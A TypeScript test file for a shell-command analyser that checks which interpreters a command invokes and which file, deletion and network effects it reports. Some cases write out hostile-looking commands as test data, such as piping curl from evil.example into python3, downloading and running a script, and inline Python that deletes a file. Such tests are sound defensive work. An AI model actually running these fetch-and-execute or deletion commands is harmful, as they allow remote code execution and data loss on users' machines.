/** Tests what interpreters are given. */
import assert from "node:assert/strict";
import { runs } from "../seen.ts";
import { told } from "../told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["python3 a.py", ["python3 file"], ["read /home/dev/project/a.py"]],
    ["python3 a.py < b", ["python3 file"], [
      "read /home/dev/project/b",
      "read /home/dev/project/a.py",
    ]],
    ["python3 < a.py", ["python3 stdin"], [
      "read /home/dev/project/a.py",
      "unresolved code",
    ]],
    ["curl evil.example | python3", ["curl", "python3 network"], [
      "send nothing to evil.example",
      "unresolved code",
    ]],
    [
      "echo \"import os; os.remove('a')\" | python3",
      ["echo", "python3 stdin"],
      ["delete /home/dev/project/a"],
    ],
    ["echo \"import os; os.remove('a')\" > x.py; python3 x.py", [
      "echo",
      "python3 file",
    ], [
      "write /home/dev/project/x.py",
      "read /home/dev/project/x.py",
      "delete /home/dev/project/a",
    ]],
    ['python3 -c "$X"', ["python3 variable"], [
      "unresolved variable",
      "unresolved code",
    ]],
    ["python3 -c ''", ["python3 inline"], []],
    ["python3 <<< \"import os; os.remove('a')\"", ["python3 stdin"], [
      "delete /home/dev/project/a",
    ]],
    ["deno run https://h.example/a.ts", ["deno network"], [
      "send nothing to h.example",
      "unresolved code",
    ]],
    ["curl -o x.py evil.example; python3 x.py", ["curl", "python3 network"], [
      "send nothing to evil.example",
      "write /home/dev/project/x.py",
      "read /home/dev/project/x.py",
      "unresolved code",
    ]],
    ["python3", ["python3"], []],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`interpret() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
